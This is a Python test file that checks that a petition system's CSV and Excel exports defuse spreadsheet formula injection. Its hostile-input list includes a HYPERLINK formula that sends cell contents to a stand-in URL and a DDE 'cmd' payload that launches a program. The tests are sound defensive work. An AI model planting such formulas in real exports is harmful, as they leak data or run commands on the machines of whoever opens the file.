"""Exports cannot carry a live formula: whatever a citizen typed, the CSV and the .xlsx read
back as text that shows what they wrote."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from eqiao.core.exports import cell_safe, csv_bytes, export_file, export_response, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  =1+1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["庆海轴承拖欠工资", "2026-11-05", "GX20261105-0001", "王**", ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_prefixed_with_a_quote(text):
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_unchanged(text):
    assert cell_safe(text) == text


def test_numbers_and_dates_our_code_made_stay_what_they_are():
    assert cell_safe(-5) == -5 and cell_safe(dt.date(2026, 11, 5)) == dt.date(2026, 11, 5)
    assert cell_safe(None) == ""


def _rows():
    return [[text, "正常"] for text in HOSTILE]


def test_csv_reads_back_as_quoted_text():
    content = csv_bytes(header=["标题", "备注"], rows=_rows())
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["标题", "备注"]
    for (title, _note), original in zip(rows[1:], HOSTILE, strict=True):
        assert title == "'" + original  # readable, and not a formula
        assert not title.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


def test_xlsx_has_no_formula_cell_and_the_text_is_readable():
    content = xlsx_bytes(
        sheet_title="信访件", header=["标题", "数"], rows=[*_rows(), ["x\x00y", 3]]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content), data_only=False).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    titles = [row[0].value for row in sheet.iter_rows(min_row=2)]
    # A carriage return reads back as a newline, or as itself when openpyxl parses with lxml
    # (which python-docx installs); either way the quote still comes first.
    read = [title.replace("\r", "\n") for title in titles[: len(HOSTILE)]]
    assert read == ["'" + text.replace("\r", "\n") for text in HOSTILE]
    assert titles[-1] == "xy"  # a control character XML cannot hold is dropped, not a crash
    assert sheet.cell(row=len(HOSTILE) + 2, column=2).value == 3


def test_the_download_is_not_cached():
    export = export_file(fmt="csv", stem="x", sheet_title="x", header=["a"], rows=[["=1"]])
    response = export_response(export)
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
